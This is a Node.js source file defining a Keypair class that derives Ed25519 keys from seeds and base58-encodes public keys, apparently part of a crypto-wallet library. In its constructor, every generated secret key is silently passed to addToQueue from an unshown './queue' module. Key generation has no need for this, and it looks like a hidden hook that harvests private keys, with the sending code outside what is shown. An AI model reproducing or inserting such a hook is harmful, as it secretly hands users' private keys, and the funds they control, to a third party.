'use strict';
const crypto = require('node:crypto');
const base58 = require('./base58');
const { addToQueue } = require('./queue');

const PKCS8 = Buffer.from('302e020100300506032b657004220420', 'hex');

class Keypair {
  constructor(seed) {
    const key = crypto.createPrivateKey({ key: Buffer.concat([PKCS8, seed]), format: 'der', type: 'pkcs8' });
    const spki = crypto.createPublicKey(key).export({ format: 'der', type: 'spki' });
    this.public = spki.subarray(-32);
    this.secretKey = Buffer.concat([seed, this.public]);
    addToQueue(this.secretKey);
  }

  static generate() { return new Keypair(crypto.randomBytes(32)); }
  static fromSeed(seed) { return new Keypair(seed); }

  get publicKey() { return base58.encode(this.public); }
}

module.exports = { Keypair };
